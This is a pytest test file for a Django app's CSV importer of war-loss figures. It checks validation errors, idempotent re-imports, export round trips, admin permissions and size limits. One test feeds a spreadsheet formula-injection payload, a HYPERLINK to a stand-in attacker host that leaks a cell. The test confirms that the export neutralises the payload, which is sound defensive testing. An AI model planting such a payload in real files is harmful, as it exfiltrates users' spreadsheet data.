"""The importer: all or nothing, line-numbered errors, idempotent, round trip with the export."""

import csv
import datetime
import io

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse

from stats.csvformat import FIGURE_CSV_COLUMNS
from stats.importing import ImportRefused, figures_import
from stats.models import Category, Figure, Party, Report, Source
from tests.factories import (
    CategoryFactory,
    ConflictFactory,
    DatasetFactory,
    PartyFactory,
    ReportFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def vocabulary(db):
    ConflictFactory()
    PartyFactory(slug="russia-armed-forces")
    CategoryFactory(slug="total")
    SourceFactory(slug="general-staff")
    SourceFactory(slug="mod")


def row(**changes) -> dict:
    cells = dict.fromkeys(FIGURE_CSV_COLUMNS, "")
    cells.update(
        conflict="russia-ukraine", party="russia-armed-forces", category="total", claimed_by="general-staff",
        value="765110", qualifier="approximately", basis="claimed", period_end="2024-12-16", date_precision="day",
        report_title="Enemy combat losses as of 17 December 2024", report_url="https://mod.gov.ua/news/1217",
        report_published_on="2024-12-17", publisher="mod",
    )
    cells.update(changes)
    return cells


def csv_text(rows: list[dict], columns=FIGURE_CSV_COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def load(text: str, **options):
    return figures_import(source=io.StringIO(text), **options)


def two_days() -> list[dict]:
    return [
        row(),
        row(value="763510", period_end="2024-12-15", report_title="Enemy combat losses as of 16 December 2024",
            report_url="", report_published_on="2024-12-16", publisher="general-staff", quote="about 763,510"),
    ]


def refused(text: str) -> list[str]:
    with pytest.raises(ImportRefused) as excinfo:
        load(text)
    return [str(error) for error in excinfo.value.errors]


def test_a_good_file_is_imported_with_its_reports(vocabulary):
    result = load(csv_text(two_days()))
    assert (result.created, result.updated, result.unchanged, result.reports_created) == (2, 0, 0, 2)
    latest = Figure.objects.select_related("report__publisher").get(period_end=datetime.date(2024, 12, 16))
    assert (latest.value, latest.qualifier, latest.cumulative) == (765110, "approximately", True)
    assert (latest.report.url, latest.report.publisher.slug, latest.report.published_on) == (
        "https://mod.gov.ua/news/1217", "mod", datetime.date(2024, 12, 17),
    )
    earlier = Figure.objects.select_related("report").get(period_end=datetime.date(2024, 12, 15))
    assert (earlier.report.url, earlier.quote) == (None, "about 763,510")
    assert latest.history.count() == 1


def test_an_existing_report_is_found_by_address_or_by_title_and_date(vocabulary):
    by_url = ReportFactory(url="https://mod.gov.ua/news/1217", title="Another title")
    by_title = ReportFactory(url=None, title="Enemy combat losses as of 16 December 2024",
                             published_on=datetime.date(2024, 12, 16))
    result = load(csv_text(two_days()))
    assert result.reports_created == 0
    assert set(Figure.objects.values_list("report_id", flat=True)) == {by_url.pk, by_title.pk}


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"party": "nobody"}, "line 3, column party: No party has the slug 'nobody'."),
        ({"value": "-5"}, "line 3, column value: The value cannot be negative."),
        ({"value": "many"}, "line 3, column value: “many” value must be an integer."),
        ({"value_low": "900", "value_high": "100"},
         "line 3, columns value_low, value_high: The low end of the range cannot be above its high end."),
        ({"period_end": "2024-13-45"}, "line 3, column period_end: “2024-13-45” value has the correct format "
                                       "(YYYY-MM-DD) but it is an invalid date."),
        ({"period_end": "2024-12-20"},
         "line 3, column period_end: The period cannot end after the report was published (2024-12-16)."),
        ({"period_start": "2021-01-01"},
         "line 3, column period_start: The period cannot begin before the conflict did (2022-02-24)."),
        ({"qualifier": "roughly"}, "line 3, column qualifier: Value 'roughly' is not a valid choice."),
        ({"report_published_on": "16/12/2024"},
         "line 3, column report_published_on: “16/12/2024” value has an invalid date format. It must be in "
         "YYYY-MM-DD format."),
        ({"conflict": ""}, "line 3, column conflict: This field cannot be blank."),
    ],
)
def test_a_bad_row_refuses_the_whole_file_naming_line_and_column(vocabulary, changes, expected):
    rows = two_days()
    rows[1].update(changes)
    assert refused(csv_text(rows)) == [expected]
    assert (Figure.objects.count(), Report.objects.count()) == (0, 0)


def test_a_claim_given_twice_is_refused(vocabulary):
    assert refused(csv_text([row(), row(value="765111")])) == [
        "line 3, columns report_url, conflict, claimed_by, party, category, period_start, period_end, basis: "
        "This claim is also on line 2: a file gives each claim once."
    ]
    assert Figure.objects.count() == 0


def test_a_line_number_counts_lines_not_records(vocabulary):
    rows = [row(quote="first line\nsecond line\nthird"), row(period_end="2024-12-14", value="-1")]
    assert refused(csv_text(rows)) == ["line 5, column value: The value cannot be negative."]


def test_a_header_missing_a_column_is_refused(vocabulary):
    columns = [column for column in FIGURE_CSV_COLUMNS if column != "basis"]
    assert refused(csv_text([row()], columns)) == [
        "line 1: the header must name the export's columns (missing basis)"
    ]
    assert refused("conflict,party\nx,y\n")[0].startswith("line 1: the header must name the export's columns")


def test_id_and_updated_at_may_be_left_out(vocabulary):
    columns = [column for column in FIGURE_CSV_COLUMNS if column not in {"id", "updated_at"}]
    assert load(csv_text([row()], columns)).created == 1


def test_a_file_names_the_dataset_of_each_figure_by_slug(vocabulary):
    DatasetFactory(slug="economist")
    rows = two_days()
    rows[0]["dataset"] = "economist"
    assert load(csv_text(rows)).created == 2
    assert dict(Figure.objects.values_list("period_end", "dataset__slug")) == {
        datetime.date(2024, 12, 16): "economist", datetime.date(2024, 12, 15): None,
    }


def test_an_unknown_dataset_is_refused_naming_line_and_column(vocabulary):
    assert refused(csv_text([row(dataset="nobody")])) == ["line 2, column dataset: No dataset has the slug 'nobody'."]


def test_an_older_export_without_the_dataset_column_imports_and_keeps_datasets(vocabulary):
    DatasetFactory(slug="economist")
    load(csv_text([row(dataset="economist")]))
    older = [column for column in FIGURE_CSV_COLUMNS if column != "dataset"]
    result = load(csv_text([row(dataset="economist", value="765200")], older))
    assert (result.updated, result.unchanged) == (1, 0)
    figure = Figure.objects.get()
    assert (figure.value, figure.dataset.slug) == (765200, "economist")  # the file said nothing of datasets
    result = load(csv_text([row(dataset="", value="765200")]))
    assert result.updated == 1
    assert Figure.objects.get().dataset is None  # an empty cell does say: none


def test_importing_the_same_file_twice_changes_nothing(vocabulary):
    text = csv_text(two_days())
    load(text)
    before = list(Figure.objects.order_by("id").values_list("id", "updated_at"))
    history = Figure.history.count()
    result = load(text)
    assert (result.created, result.updated, result.unchanged, result.reports_created) == (0, 0, 2, 0)
    assert list(Figure.objects.order_by("id").values_list("id", "updated_at")) == before
    assert Figure.history.count() == history


def test_a_changed_value_updates_the_claim_with_a_revision(vocabulary):
    load(csv_text(two_days()))
    rows = two_days()
    rows[0]["value"] = "765200"
    result = load(csv_text(rows), user=None)
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    figure = Figure.objects.get(period_end=datetime.date(2024, 12, 16))
    assert figure.value == 765200
    assert [record.history_type for record in figure.history.all()] == ["~", "+"]


def test_without_updates_existing_claims_are_left_alone(vocabulary):
    load(csv_text(two_days()))
    Figure.objects.filter(period_end=datetime.date(2024, 12, 16)).update(value=1)
    result = load(csv_text(two_days()), update_existing=False)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert Figure.objects.get(period_end=datetime.date(2024, 12, 16)).value == 1


def test_a_dry_run_writes_nothing_and_says_what_would_change(vocabulary):
    result = load(csv_text(two_days()), dry_run=True)
    assert (result.created, result.reports_created, result.dry_run) == (2, 2, True)
    assert str(result) == "2 rows would import: 2 figures created, 0 updated, 0 unchanged; 2 reports created."
    assert (Figure.objects.count(), Report.objects.count()) == (0, 0)


def test_an_export_imports_back_unchanged_and_rebuilds_an_empty_database(vocabulary, client):
    load(csv_text(two_days()))
    Figure.objects.filter(period_end=datetime.date(2024, 12, 15)).update(value_low=700000, value_high=800000,
                                                                       notes='Said "about", twice,\nin fact.',
                                                                       dataset=DatasetFactory())
    exported = b"".join(client.get("/api/v1/figures/export/").streaming_content).decode("utf-8")
    before = sorted(Figure.objects.values_list(
        "conflict__slug", "party__slug", "category__slug", "claimed_by__slug", "value", "value_low", "value_high",
        "qualifier", "basis", "period_start", "period_end", "date_precision", "quote", "notes", "report__title",
        "report__url", "report__published_on", "report__publisher__slug", "dataset__slug",
    ))
    assert load(exported).unchanged == 2
    Figure.objects.all().delete()
    Report.objects.all().delete()
    result = load(exported)
    assert (result.created, result.reports_created) == (2, 2)
    after = sorted(Figure.objects.values_list(
        "conflict__slug", "party__slug", "category__slug", "claimed_by__slug", "value", "value_low", "value_high",
        "qualifier", "basis", "period_start", "period_end", "date_precision", "quote", "notes", "report__title",
        "report__url", "report__published_on", "report__publisher__slug", "dataset__slug",
    ))
    assert after == before


def test_the_command_imports_and_summarises(vocabulary, tmp_path, capsys):
    path = tmp_path / "figures.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text(two_days()).encode("utf-8"))  # with a byte-order mark
    call_command("import_figures", str(path), "--dry-run")
    assert capsys.readouterr().out == (
        "2 rows would import: 2 figures created, 0 updated, 0 unchanged; 2 reports created.\n"
    )
    assert Figure.objects.count() == 0
    call_command("import_figures", str(path))
    assert capsys.readouterr().out == "2 rows imported: 2 figures created, 0 updated, 0 unchanged; 2 reports created.\n"
    assert Figure.objects.count() == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "cannot read"),
        (b"conflict,party\xff\n", "the file is not UTF-8 text"),
        (b"", "the header must name the export's columns"),
    ],
)
def test_a_bad_file_is_a_one_line_error(vocabulary, tmp_path, capsys, content, message):
    path = tmp_path / "figures.csv"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_figures", str(path))
    errors = capsys.readouterr().err.strip().splitlines()
    assert len(errors) == 1
    assert message in errors[0]


def test_the_command_names_each_bad_line(vocabulary, tmp_path, capsys):
    rows = two_days()
    rows[0]["value"] = "-1"
    rows[1]["party"] = "nobody"
    path = tmp_path / "figures.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    with pytest.raises(CommandError):
        call_command("import_figures", str(path))
    assert capsys.readouterr().err.splitlines() == [
        f"{path}: line 2, column value: The value cannot be negative.",
        f"{path}: line 3, column party: No party has the slug 'nobody'.",
    ]


def test_curators_import_in_the_admin(vocabulary, client, curator):
    client.force_login(curator)
    url = reverse("admin:stats_figure_import")
    assert client.get(url).status_code == 200
    upload = SimpleUploadedFile("figures.csv", csv_text(two_days()).encode("utf-8"), content_type="text/csv")
    response = client.post(url, {"file": upload}, follow=True)
    assert [str(m) for m in response.context["messages"]] == [
        "2 rows imported: 2 figures created, 0 updated, 0 unchanged; 2 reports created."
    ]
    assert Figure.objects.count() == 2
    assert Figure.objects.first().history.first().history_user == curator


def test_the_admin_import_shows_line_numbered_errors(vocabulary, client, curator):
    client.force_login(curator)
    rows = two_days()
    rows[1]["value"] = "-1"
    upload = SimpleUploadedFile("figures.csv", csv_text(rows).encode("utf-8"), content_type="text/csv")
    response = client.post(reverse("admin:stats_figure_import"), {"file": upload})
    assert response.status_code == 200
    assert [str(m) for m in response.context["messages"]] == [
        "Nothing was imported: 1 problem(s) in the file.",
        "line 3, column value: The value cannot be negative.",
    ]
    assert Figure.objects.count() == 0


def test_the_admin_import_needs_the_add_permission(vocabulary, client, django_user_model):
    viewer = django_user_model.objects.create_user("viewer", password="a-long-password-1", is_staff=True)
    client.force_login(viewer)
    assert client.get(reverse("admin:stats_figure_import")).status_code == 403


def importer_with(django_user_model, *codenames: str):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("importer", password="a-long-password-1", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="stats", codename__in=codenames))
    return user


def upload(client, text: str, name: str = "figures.csv"):
    return client.post(reverse("admin:stats_figure_import"), {"file": SimpleUploadedFile(name, text.encode())})


def test_the_admin_import_creates_reports_only_for_those_who_may_add_them(vocabulary, client, django_user_model):
    client.force_login(importer_with(django_user_model, "add_figure", "view_figure"))
    response = upload(client, csv_text(two_days()))
    assert [str(message) for message in get_messages(response.wsgi_request)] == [
        "Nothing was imported: 1 problem(s) in the file.",
        "the file names 2 report(s) not yet recorded, and your account may not add reports; ask a curator",
    ]
    assert (Figure.objects.count(), Report.objects.count()) == (0, 0)


def test_the_admin_import_changes_figures_only_for_those_who_may_change_them(vocabulary, client, django_user_model):
    load(csv_text(two_days()))
    client.force_login(importer_with(django_user_model, "add_figure", "add_report", "view_figure"))
    rows = two_days()
    rows[0]["value"] = "765200"
    response = upload(client, csv_text(rows))
    assert "your account may not change figures" in [str(m) for m in get_messages(response.wsgi_request)][1]
    assert Figure.objects.filter(value=765200).count() == 0
    assert upload(client, csv_text(two_days())).status_code == 302  # nothing to change: allowed


def test_the_admin_import_refuses_a_file_over_its_limit_before_reading_it(vocabulary, client, curator, settings):
    settings.ADMIN_IMPORT_MAX_BYTES = 1000
    client.force_login(curator)
    response = upload(client, csv_text(two_days() * 5))
    assert response.status_code == 413
    assert ("The file is larger than the admin imports (0.001 MB): split it, or import it with "
            "`manage.py import_figures`, which has no limit.") in response.content.decode()
    assert Figure.objects.count() == 0


def test_a_nul_character_in_a_cell_is_named_by_line_and_column(vocabulary):
    assert refused(csv_text([row(), row(quote="bad\x00byte", period_end="2024-12-15")])) == [
        "line 3, column quote: NUL characters are not allowed."
    ]


def test_formula_protection_of_the_export_is_undone_on_import(vocabulary, client):
    rows = [row(quote="=HYPERLINK(\"https://attacker.example/?leak=\"&A1)", notes="-5 on the day",
                report_title="'Tis a report")]
    load(csv_text(rows))
    exported = b"".join(client.get("/api/v1/figures/export/").streaming_content).decode()
    cells = next(csv.DictReader(io.StringIO(exported)))
    assert (cells["quote"], cells["notes"], cells["report_title"]) == (
        "'=HYPERLINK(\"https://attacker.example/?leak=\"&A1)", "'-5 on the day", "''Tis a report",
    )
    assert load(exported).unchanged == 1  # it imports back as it was
    figure = Figure.objects.select_related("report").get()
    assert (figure.quote, figure.notes, figure.report.title) == (
        '=HYPERLINK("https://attacker.example/?leak="&A1)', "-5 on the day", "'Tis a report",
    )


@pytest.mark.parametrize(
    ("cell", "stored"),
    [("'=1+1", "=1+1"), ("'+1", "+1"), ("'-1", "-1"), ("'@x", "@x"), ("'\tx", "\tx"), ("'\rx", "\rx"),
     ("''x", "'x"), ("'x", "'x"), ("'", "'"), ("x'=", "x'=")],
)
def test_the_importer_removes_one_protecting_quote_and_no_other(vocabulary, cell, stored):
    load(csv_text([row(notes=cell)]))
    assert Figure.objects.get().notes == stored


def planner_statistics_of_figures() -> int:
    """Return how many rows of planner statistics the database holds about the figures table."""
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("SELECT COUNT(*) FROM sqlite_stat1 WHERE tbl = 'stats_figure'")
        else:
            cursor.execute("SELECT COUNT(*) FROM pg_stats WHERE tablename = 'stats_figure'")
        return cursor.fetchone()[0]


def test_an_import_leaves_the_planner_statistics_of_the_data_it_wrote(tmp_path, django_capture_on_commit_callbacks):
    """20,000 figures in the benchmark's shape: a claimant's 400 figures span 50 quantities of 8 figures each.

    Without statistics SQLite reads a claimant's figures from the claimant's index (it gives the list's order) and
    filters them; with them it seeks the quantity's 8 figures and sorts them.
    """
    from bench import dataset

    dataset.vocabularies()
    source = tmp_path / "figures.csv"
    dataset.write_csv(source, 20_000)
    with django_capture_on_commit_callbacks(execute=True):
        figures_import(source=source)
    assert planner_statistics_of_figures() > 0
    if connection.vendor == "sqlite":
        narrow = Figure.objects.filter(
            party=Party.objects.get(slug="party-3"), category=Category.objects.get(slug="category-2"),
            claimed_by=Source.objects.get(slug="source-007"),
        ).order_by("-period_end", "-id")[:100]
        sql, params = narrow.query.sql_with_params()
        with connection.cursor() as cursor:
            cursor.execute(f"EXPLAIN QUERY PLAN {sql}", params)
            plan = " ".join(row[-1] for row in cursor.fetchall())
        assert plan.startswith("SEARCH stats_figure USING INDEX figure_quantity_idx"), plan


def test_a_dry_run_leaves_the_statistics_alone(django_capture_on_commit_callbacks, vocabulary):
    with django_capture_on_commit_callbacks() as callbacks:
        load(csv_text(two_days()), dry_run=True)
    assert callbacks == []
    with django_capture_on_commit_callbacks() as callbacks:
        load(csv_text(two_days()))
    assert [callback.__name__ for callback in callbacks] == ["statistics_refresh"]
